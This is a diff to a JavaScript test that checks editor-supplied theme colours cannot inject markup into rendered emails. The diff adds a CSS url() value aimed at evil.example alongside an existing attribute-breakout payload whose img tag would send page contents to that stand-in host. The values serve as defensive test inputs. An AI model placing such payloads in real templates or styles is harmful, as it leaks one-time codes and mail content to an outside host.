@@ -233,7 +233,15 @@ describe('broken content', () => {
 
 it('no colour that an editor typed becomes markup of pages, mails and pictures [X49]', async () => {
   const beacon = `#fff"><img src='https://evil.example/?`;
-  edit('midan/style.json', JSON.stringify({ '--paper': beacon, '--gold': "red'/><image/>", '--ink': '#141d30' }));
+  edit(
+    'midan/style.json',
+    JSON.stringify({
+      '--paper': beacon,
+      '--gold': "red'/><image/>",
+      '--line': 'url(//evil.example/x)',
+      '--ink': '#141d30',
+    }),
+  );
   const { html } = await composeEmail('one-time-code', 'en', { name: 'Mona', code: '123456', minutes: '10' });
   expect(html).toContain('123456');
   expect(html).not.toContain('evil.example');
